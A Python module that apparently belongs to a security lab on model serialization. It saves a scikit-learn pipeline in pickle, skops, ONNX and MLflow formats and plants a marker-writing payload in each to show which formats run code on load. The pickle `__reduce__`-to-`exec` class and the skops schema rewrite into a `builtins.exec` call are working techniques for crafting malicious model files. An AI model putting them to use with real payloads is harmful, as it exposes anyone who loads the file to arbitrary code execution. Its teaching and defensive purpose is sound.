"""Writing the same fitted pipeline in every format, and the planted payloads.

Each writer returns the path of what it wrote. The payload is the same intent in every
format — run ``PAYLOAD_CODE`` (it writes a marker file, nothing else) when the file is loaded:

- pickle: an attribute whose ``__reduce__`` is ``exec(code)``; unpickling calls it.
- skops: the same call written as skops' ``ConstructorFromReduceNode`` for ``builtins.exec``;
  skops only builds types the loader trusts, and the project trusts exact names only.
- ONNX: a graph is operators and tensors; the code string can only ride along as data
  (metadata), and nothing in the runtime executes it.
"""

from __future__ import annotations

import copy
import io
import json
import warnings
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

from labs.common.data import CATEGORICAL_FEATURES, NUMERIC_FEATURES

PICKLE, SKOPS, ONNX, PYFUNC = "pickle/joblib", "skops", "onnx", "mlflow-pyfunc"
FORMATS = (PICKLE, SKOPS, ONNX, PYFUNC)
FILE_NAMES = {PICKLE: "model.joblib", SKOPS: "model.skops", ONNX: "model.onnx"}


def payload_code(marker: Path) -> str:
    """Harmless stand-in for an attacker's code: it only writes ``marker``."""
    return f"open({str(marker)!r}, 'w').write('planted payload ran at load time')"


# --- the formats ---------------------------------------------------------------------------


def write_pickle(model: Any, path: Path) -> Path:
    """joblib (pickle inside), as most tutorials do it."""
    import joblib

    joblib.dump(model, path)
    return path


def write_skops(model: Any, path: Path) -> Path:
    """skops with the project's reproducible writer (refuses types outside the allowlist)."""
    from labs.common.tracking import dump_model

    dump_model(model, path)
    return path


def to_onnx(model: Any) -> Any:
    """The pipeline as an ONNX graph: numbers as float32 columns, categories as strings, and
    the classifier's probabilities as a plain tensor (no ZipMap of Python dicts)."""
    from skl2onnx import convert_sklearn
    from skl2onnx.common.data_types import FloatTensorType, StringTensorType

    inputs = [(c, FloatTensorType([None, 1])) for c in NUMERIC_FEATURES]
    inputs += [(c, StringTensorType([None, 1])) for c in CATEGORICAL_FEATURES]
    classifier = model.steps[-1][1]
    return convert_sklearn(model, initial_types=inputs, options={id(classifier): {"zipmap": False}})


def write_onnx(model: Any, path: Path) -> Path:
    path.write_bytes(to_onnx(model).SerializeToString())
    return path


def write_pyfunc(model: Any, path: Path, sample: pd.DataFrame) -> Path:
    """An MLflow model directory (skops inside, pinned requirements, a signature), whose
    pyfunc ``predict`` returns probabilities."""
    import mlflow.sklearn
    from mlflow.models import infer_signature

    from labs.common.tracking import model_requirements, trusted_types_for

    frame = plain_frame(columns_of(sample))
    with warnings.catch_warnings():  # MLflow's hint about integer columns and missing values
        warnings.simplefilter("ignore", UserWarning)
        signature = infer_signature(frame, model.predict_proba(frame))
    mlflow.sklearn.save_model(
        model,
        str(path),
        serialization_format="skops",
        skops_trusted_types=trusted_types_for(model),
        pip_requirements=model_requirements(),
        signature=signature,
        pyfunc_predict_fn="predict_proba",
    )
    return path


def the_artefact(model: Any, params: Any) -> Any:
    """What the REST app is given to serve: the trained model itself, nothing rebuilt."""
    return model


# --- data as plain arrays (what a probe process reads) --------------------------------------


def columns_of(frame: pd.DataFrame) -> dict[str, np.ndarray]:
    """Feature columns as numpy arrays: numbers as they are, categories as unicode strings."""
    out = {c: frame[c].to_numpy() for c in NUMERIC_FEATURES}
    out.update({c: frame[c].astype(str).to_numpy(dtype=str) for c in CATEGORICAL_FEATURES})
    return out


def plain_frame(columns: dict[str, np.ndarray]) -> pd.DataFrame:
    """The columns as a DataFrame in feature order (categories as plain strings)."""
    return pd.DataFrame({c: columns[c] for c in (*NUMERIC_FEATURES, *CATEGORICAL_FEATURES)})


def onnx_feed(columns: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
    """ONNX inputs: one (n, 1) tensor per feature; numbers become float32 here."""
    feed = {c: np.asarray(columns[c], dtype=np.float32).reshape(-1, 1) for c in NUMERIC_FEATURES}
    feed.update({c: np.asarray(columns[c], dtype=str).reshape(-1, 1) for c in CATEGORICAL_FEATURES})
    return feed


# --- the planted payloads --------------------------------------------------------------------


class _Planted:
    """Unpickling this object calls ``exec(code)``: that is all a malicious pickle needs."""

    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return exec, (self.code,)


def write_planted_pickle(model: Any, path: Path, marker: Path) -> Path:
    """A working copy of ``model`` with the payload in one attribute of its classifier."""
    import joblib

    evil = copy.deepcopy(model)
    evil.steps[-1][1].__dict__["_metadata"] = _Planted(payload_code(marker))
    joblib.dump(evil, path)
    return path


def write_planted_skops(model: Any, path: Path, marker: Path) -> Path:
    """The model's skops file with the same attribute, written as a call of ``builtins.exec``
    (what a crafted file can say in skops' format: construct type X with these arguments)."""
    import skops.io

    evil = copy.deepcopy(model)
    evil.steps[-1][1].__dict__["_metadata"] = (payload_code(marker),)
    raw = zipfile.ZipFile(io.BytesIO(skops.io.dumps(evil)))
    schema = json.loads(raw.read("schema.json"))
    if not _plant_exec(schema, "_metadata"):
        raise RuntimeError("could not find the planted attribute in the skops schema")
    with zipfile.ZipFile(path, "w") as target:
        for name in raw.namelist():
            data = json.dumps(schema).encode() if name == "schema.json" else raw.read(name)
            target.writestr(name, data)
    return path


def _plant_exec(node: Any, key: str) -> bool:
    if isinstance(node, dict):
        content = node.get("content")
        if isinstance(content, dict) and key in content and isinstance(content[key], dict):
            args = content[key]
            content[key] = {
                "__class__": "exec",
                "__module__": "builtins",
                "__loader__": "ConstructorFromReduceNode",
                "content": args,
                **({"__id__": args["__id__"] + 1} if "__id__" in args else {}),
            }
            return True
        return any(_plant_exec(v, key) for v in node.values())
    if isinstance(node, list):
        return any(_plant_exec(v, key) for v in node)
    return False


def write_planted_onnx(model: Any, path: Path, marker: Path) -> Path:
    """The ONNX graph with the payload code as metadata: the only place a string can go."""
    onx = to_onnx(model)
    entry = onx.metadata_props.add()
    entry.key, entry.value = "on_load", payload_code(marker)
    path.write_bytes(onx.SerializeToString())
    return path


def onnx_code_surface(path: Path) -> dict[str, Any]:
    """What an ONNX file can ask a runtime to do: its operator domains and types, local
    functions (0 = none), and metadata keys (strings, never executed)."""
    import onnx

    onx = onnx.load(str(path))
    onnx.checker.check_model(onx)
    return {
        "domains": sorted({n.domain or "ai.onnx" for n in onx.graph.node}),
        "op_types": sorted({n.op_type for n in onx.graph.node}),
        "local_functions": len(onx.functions),
        "metadata_keys": sorted(p.key for p in onx.metadata_props),
    }
